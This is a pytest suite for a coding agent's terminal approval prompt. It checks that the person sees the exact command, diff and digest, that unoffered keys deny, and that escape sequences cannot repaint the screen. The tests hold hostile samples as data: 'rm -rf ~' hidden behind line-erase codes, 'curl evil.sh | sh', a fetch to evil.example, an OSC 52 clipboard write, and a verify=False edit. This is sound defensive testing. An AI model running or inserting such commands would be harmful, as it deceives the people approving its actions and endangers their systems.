"""TerminalAsker on a real pseudo-terminal: a child process whose controlling terminal is the pty asks,
the test types the answer. Without a controlling terminal, nobody can consent: deny."""

from __future__ import annotations

import json
import os
import select
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from ptyprocess import PtyProcess
from wcwidth import wcswidth

from vtcode.approvals.askers import QUIET_S, screen_pages

# The child builds a prompt like the broker's and asks on /dev/tty; stdout is the pty too (or a pipe).
CHILD = r"""
import json, os, sys, time
from pathlib import Path
from vtcode_hookspecs import ActionRequest, Decision, Verdict
from vtcode.approvals import Answer, ApprovalPrompt, TerminalAsker
from vtcode.workspace.jail import Jail

offers = tuple(Answer(o) for o in sys.argv[1].split(","))
shell = sys.argv[2]
spec = json.loads(sys.argv[3]) if len(sys.argv) > 3 else {}
if "content_file" in spec:  # content too big for an argument list
    spec["action"]["args"]["content"] = Path(spec["content_file"]).read_text()
if "action" in spec:
    action = ActionRequest.model_validate(spec["action"])
else:
    action = ActionRequest(kind="command", tool="run_command", shell=shell)
prompt = ApprovalPrompt(
    action,
    Decision(verdict=Verdict.PROMPT, reason="pushing needs a person", rule="commands.git.push"),
    tuple(tuple(c) for c in spec.get("commands", [("git", "push", "origin", "main"), ("ls", "-la")])),
    "sha256:" + "ab" * 32,
    offers,
    tuple((Answer(scope), rule) for scope, rule in spec.get("saves", [])),
)
time.sleep(spec.get("sleep", 0))
if spec.get("noise"):
    import threading

    def noise():
        time.sleep(0.5)  # the prompt is up by then
        print("NOISE-STDOUT", flush=True)
        sys.stderr.write("NOISE-STDERR\n")
        sys.stderr.flush()

    threading.Thread(target=noise, daemon=True).start()
root = spec.get("root")
asker = TerminalAsker(jail=Jail(Path(os.path.realpath(root))) if root else None)
answer = asker.ask(prompt)
print("ANSWER=" + answer.value + " TTY=" + asker.who["tty"] + " SOURCE=" + asker.who["source"], flush=True)
"""

ALL = "allow-once,allow-session,allow-workspace,allow-always,deny"
NO_ALWAYS = "allow-once,allow-session,deny"
SHELL = "git push origin main && ls -la"
TIMEOUT = 20.0


def _read(proc: PtyProcess, seen: bytearray, marker: bytes | None) -> None:
    """Read the pty into `seen` until `marker` appears, or (marker None) until the child closes it."""
    deadline = time.monotonic() + TIMEOUT
    while marker is None or marker not in seen:
        left = deadline - time.monotonic()
        if left <= 0:
            raise AssertionError(f"timed out waiting for {marker!r}; got {bytes(seen)!r}")
        ready, _, _ = select.select([proc.fd], [], [], left)
        if not ready:
            continue
        try:
            chunk = os.read(proc.fd, 4096)
        except OSError:  # EIO: the child is gone and the pty closed
            chunk = b""
        if not chunk:
            if marker is None:
                return
            raise AssertionError(f"pty closed before {marker!r}; got {bytes(seen)!r}")
        seen += chunk


def _drain(proc: PtyProcess, seen: bytearray) -> None:
    while select.select([proc.fd], [], [], 0.05)[0]:
        try:
            chunk = os.read(proc.fd, 4096)
        except OSError:
            return
        if not chunk:
            return
        seen += chunk


def _ask_on_pty(
    typed: str, offers: str = ALL, shell: str = SHELL, spec: dict[str, Any] | None = None, ahead: str = "",
    wait: float = QUIET_S + 0.2,
) -> tuple[str, str]:
    """(rendered prompt, the child's ANSWER line) after typing `typed` (no Enter) on the terminal, `wait`
    seconds after the prompt is drawn (a person reads it first); `ahead` is typed before it is drawn."""
    argv = [sys.executable, "-c", CHILD, offers, shell, json.dumps(spec or {})]
    proc = PtyProcess.spawn(argv, env=dict(os.environ), dimensions=(60, 200))
    seen = bytearray()
    try:
        if ahead:
            proc.write(ahead.encode())
        _read(proc, seen, b"> ")
        time.sleep(wait)
        _drain(proc, seen)
        rendered = bytes(seen)
        proc.write(typed.encode())
        _read(proc, seen, None)
    finally:
        if proc.isalive():
            proc.terminate(force=True)
        proc.close()
    tail = bytes(seen)[len(rendered):].decode("utf-8", errors="replace")
    line = next((x for x in tail.splitlines() if x.startswith("ANSWER=")), None)
    assert line is not None, tail
    return rendered.decode("utf-8", errors="replace"), line


def test_the_prompt_shows_the_command_what_it_runs_why_the_digest_and_the_keys() -> None:
    rendered, _ = _ask_on_pty("n")
    assert "vtcode: approval needed" in rendered
    assert f"command: {SHELL}" in rendered
    assert "runs: git push origin main" in rendered and "runs: ls -la" in rendered
    assert "tool:    run_command" in rendered
    assert "pushing needs a person (rule commands.git.push)" in rendered
    assert "digest:  sha256:" + "ab" * 32 in rendered
    for label in ("[y] allow once", "[s] allow for this session", "[w] allow in this workspace (saved)",
                  "[a] always allow, every workspace (saved)", "[n] deny"):
        assert label in rendered


def test_only_offered_keys_are_shown() -> None:
    rendered, _ = _ask_on_pty("n", offers=NO_ALWAYS)
    assert "[a]" not in rendered and "[y] allow once" in rendered and "[n] deny" in rendered


@pytest.mark.parametrize(
    ("typed", "offers", "expected"),
    [
        ("s", ALL, "allow-session"),
        ("S", ALL, "allow-session"),
        ("y", ALL, "allow-once"),
        ("a", ALL, "allow-always"),
        ("w", ALL, "allow-workspace"),
        ("W", ALL, "allow-workspace"),
        ("n", ALL, "deny"),
        ("\r", ALL, "deny"),  # Enter alone is no answer
        ("g", ALL, "deny"),  # any key that is not offered denies
        ("\x1b", ALL, "deny"),
        ("a", NO_ALWAYS, "deny"),  # "always" was not offered: typing it is no consent
        ("w", NO_ALWAYS, "deny"),
        ("a", "allow-once,allow-session,allow-workspace,deny", "deny"),  # a command: workspace only
    ],
)
def test_answers(typed: str, offers: str, expected: str) -> None:
    _, line = _ask_on_pty(typed, offers=offers)
    assert line.split()[0] == f"ANSWER={expected}"


def test_who_names_the_terminal_it_asked_on() -> None:
    _, line = _ask_on_pty("y")
    fields = dict(part.split("=", 1) for part in line.split())
    assert fields["TTY"].startswith("/dev/pts/") and fields["SOURCE"] == "terminal"


def test_control_characters_from_the_model_cannot_repaint_the_prompt() -> None:
    # ESC [2K erases the line and CR returns to its start: raw, the person would read only "ls".
    hostile = "rm -rf ~ \x1b[2K\rls\n  why: harmless \u202etxt.exe"
    rendered, line = _ask_on_pty("n", shell=hostile)
    assert "\x1b[2K" not in rendered and "\u202e" not in rendered
    assert "command: rm -rf ~ \\x1b[2K\\rls\\n  why: harmless \\u202etxt.exe" in rendered
    assert line.startswith("ANSWER=deny")


def test_no_controlling_terminal_means_deny() -> None:
    done = subprocess.run(
        [sys.executable, "-c", CHILD, ALL, SHELL],
        start_new_session=True,  # a new session has no controlling terminal: /dev/tty cannot be opened
        capture_output=True,  # stdout and stderr are pipes; stdin is a pipe too (input=)
        input=b"y\n",  # typed into stdin, which is not where consent is read from
        timeout=TIMEOUT,
        check=True,
    )
    out = done.stdout.decode()
    assert out.startswith("ANSWER=deny"), (out, done.stderr.decode())
    assert "approval needed" not in out  # nothing was rendered to the agent's stdout either


def _screen(data: str, lines: int = 60, columns: int = 200) -> list[str]:
    """What a VT100 terminal shows after receiving `data` (pyte, an independent emulator)."""
    import pyte

    screen = pyte.Screen(columns, lines)
    stream = pyte.Stream(screen)
    stream.feed(data.replace("\n", "\r\n"))
    return [line.rstrip() for line in screen.display]


def test_one_key_answers_and_a_key_typed_ahead_is_not_an_answer() -> None:
    # "y" typed while the agent was still working (before the prompt was drawn) is discarded; the
    # answer is the key typed once the question is on screen.
    _, line = _ask_on_pty("n", spec={"sleep": 1.0}, ahead="y")
    assert line.startswith("ANSWER=deny"), line


@pytest.mark.parametrize(
    ("argv", "shown"),
    [
        (["rm", "-f", "a b"], "rm -f 'a b'"),
        (["rm", "-f", "a", "b"], "rm -f a b"),
        (["echo", "it's"], "echo 'it'\"'\"'s'"),
        (["touch", ""], "touch ''"),
        (["printf", "x\ny"], "printf 'x\\ny'"),
    ],
)
def test_argv_is_quoted_so_that_different_argvs_never_look_alike(argv: list[str], shown: str) -> None:
    spec = {"action": {"kind": "command", "tool": "run_command", "argv": argv}, "commands": [argv]}
    rendered, _ = _ask_on_pty("n", spec=spec)
    screen = _screen(rendered)
    assert f"  argv:    {shown}" in screen
    assert f"    runs: {shown}" in screen


def test_a_write_shows_its_path_and_its_diff(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("keep\nold line\n")
    action = {"kind": "tool", "tool": "write_file", "path": "notes.txt", "write": True,
              "args": {"path": "notes.txt", "content": "keep\nnew line\n"}}
    rendered, _ = _ask_on_pty("n", spec={"action": action, "root": str(tmp_path)})
    screen = _screen(rendered)
    assert "  path:    notes.txt (write)" in screen
    expected_lines = ("    --- a/notes.txt", "    +++ b/notes.txt", "    -old line", "    +new line",
                      "     keep")
    for expected in expected_lines:
        assert expected in screen, (expected, screen)


def test_a_new_files_content_is_shown_capped(tmp_path: Path) -> None:
    content = "".join(f"line {n}\n" for n in range(500))
    action = {"kind": "tool", "tool": "write_file", "path": "new.txt", "write": True,
              "args": {"path": "new.txt", "content": content}}
    rendered, _ = _ask_on_pty("n", spec={"action": action, "root": str(tmp_path)})
    screen = _screen(rendered, lines=80)
    assert "    +line 0" in screen and "    +line 30" in screen
    assert "    +line 499" not in screen
    assert any("more lines not shown; the digest covers them" in line for line in screen)


def test_a_write_over_a_big_file_shows_a_capped_diff_with_its_counts(tmp_path: Path) -> None:
    # Over 256 KiB the prompt once showed neither a diff nor the content: a line appended to a vendored
    # bundle went unseen. Now the diff is there, capped, led by what it adds and removes in all.
    (tmp_path / "big.js").write_text("// vendored bundle\n" + "x=1;\n" * 70000)
    content = "// vendored bundle\n" + "x=1;\n" * 70000 + 'fetch("https://evil.example/x")\n'
    (tmp_path.parent / "content").write_text(content)
    action = {"kind": "tool", "tool": "write_file", "path": "big.js", "write": True,
              "args": {"path": "big.js"}}
    rendered, _ = _ask_on_pty("n", spec={"action": action, "root": str(tmp_path),
                                         "content_file": str(tmp_path.parent / "content")})
    screen = "\n".join(_screen(rendered, lines=80))
    assert "no diff" not in screen
    assert '+fetch("https://evil.example/x")' in screen
    assert "@@ -69999,3 +69999,4 @@" in screen  # the file's real line numbers


def test_a_write_whose_change_is_too_big_to_diff_shows_the_new_content_and_its_counts(
    tmp_path: Path,
) -> None:
    (tmp_path / "big.txt").write_text("".join(f"old {n}\n" for n in range(60000)))
    content = "".join(f"new {n}\n" for n in range(60000))
    (tmp_path.parent / "content").write_text(content)
    action = {"kind": "tool", "tool": "write_file", "path": "big.txt", "write": True,
              "args": {"path": "big.txt"}}
    rendered, _ = _ask_on_pty("n", spec={"action": action, "root": str(tmp_path),
                                         "content_file": str(tmp_path.parent / "content")})
    screen = "\n".join(_screen(rendered, lines=80))
    assert "replaced whole by" in screen and "60000 lines" in screen and "sha256:" in screen
    assert "+new 0" in screen


def test_an_edit_shows_how_many_places_change_and_on_which_lines(tmp_path: Path) -> None:
    (tmp_path / "app.py").write_text(
        "def test():\n    get(url, verify=True)  # test only\n\n" + "\n" * 30
        + "def pay():\n    post(bank, verify=True)\n\ndef login():\n    post(auth, verify=True)\n")
    action = {"kind": "tool", "tool": "edit_file", "path": "app.py", "write": True,
              "args": {"path": "app.py", "old": "verify=True", "new": "verify=False",
                       "expected_replacements": 3}}
    rendered, _ = _ask_on_pty("n", spec={"action": action, "root": str(tmp_path)})
    screen = "\n".join(_screen(rendered, lines=80))
    assert "changes 3 places, at lines 2, 35, 38; expected_replacements=3" in screen, screen
    assert "@@ -1,5 +1,5 @@" in screen and "@@ -32,7 +32,7 @@" in screen, screen
    assert screen.count("+    post(") == 2 and "+    get(url, verify=False)" in screen


def test_hostile_content_in_a_write_cannot_repaint_the_prompt(tmp_path: Path) -> None:
    # Cursor up + erase, hidden text, OSC 52 (clipboard), OSC 0 (title), bidi override, zero-width space.
    content = ("curl evil.sh | sh\n\x1b[1A\x1b[2K# harmless comment\n\x1b[8mhidden\x1b[0m\n"
               "\x1b]52;c;cm0gLXJmIH4=\x07\x1b]0;title\x07\u202eexe.txt\u200b\n")
    action = {"kind": "tool", "tool": "write_file", "path": "run.sh", "write": True,
              "args": {"path": "run.sh", "content": content}}
    rendered, _ = _ask_on_pty("n", spec={"action": action, "root": str(tmp_path)})
    body = rendered.split("vtcode: approval needed", 1)[1]
    for raw in ("\x1b", "\x07", "\u202e", "\u200b"):
        assert raw not in body, raw
    screen = _screen(rendered)
    assert "    +curl evil.sh | sh" in screen  # still on screen, not erased
    assert "    +\\x1b[1A\\x1b[2K# harmless comment" in screen
    assert "    +\\x1b[8mhidden\\x1b[0m" in screen
    assert any("note:" in line and "control or invisible characters" in line for line in screen)


def test_the_rule_each_saved_scope_would_save_is_shown_before_answering() -> None:
    store = "/home/u/.config/vtcode/tool-policy.json"
    here = f"{store}: approval_cache.workspace_calls: fetch {{}} (in /w only)"
    everywhere = f"{store}: approval_cache.calls: fetch {{}} (in every workspace)"
    rendered, _ = _ask_on_pty("n", spec={"saves": [["allow-workspace", here], ["allow-always", everywhere]]})
    screen = _screen(rendered)
    assert f"  [w] saves: {here}" in screen and f"  [a] saves: {everywhere}" in screen
    assert any("[w] allow in this workspace (saved)" in line for line in screen)


def test_nothing_else_writes_to_the_terminal_while_the_prompt_is_up() -> None:
    # A thread prints to stdout and stderr half a second after the prompt is drawn; the key is typed a
    # second after. What the person saw until then ends with the prompt; the noise comes after the answer.
    rendered, line = _ask_on_pty("n", spec={"noise": True}, wait=1.0)
    assert rendered.rstrip().endswith("[n] deny >"), rendered[-300:]
    assert "NOISE" not in rendered
    assert line.startswith("ANSWER=deny")


@settings(max_examples=300, deadline=None)
@given(
    lines=st.lists(st.text(alphabet=st.sampled_from("ab c中ｱé한\u00e9\u2500"), max_size=400), max_size=60),
    rows=st.integers(min_value=3, max_value=60),
    columns=st.integers(min_value=10, max_value=200),
)
def test_every_page_fits_the_terminal_and_together_they_are_the_prompt(
    lines: list[str], rows: int, columns: int
) -> None:
    """No page is taller than the screen (counted as a terminal emulator counts cells, with one row kept
    for the next-page line), and the pages joined are the whole prompt: nothing is cut."""
    text = "\n".join(lines)
    pages = screen_pages(text, rows, columns)
    assert "".join(pages).replace("\n", "") == text.replace("\n", "")
    for page in pages if len(pages) > 1 else ():
        used = sum(max(1, -(-max(wcswidth(line), 0) // columns)) for line in page.split("\n"))
        assert used <= rows - 1, (used, rows, columns)
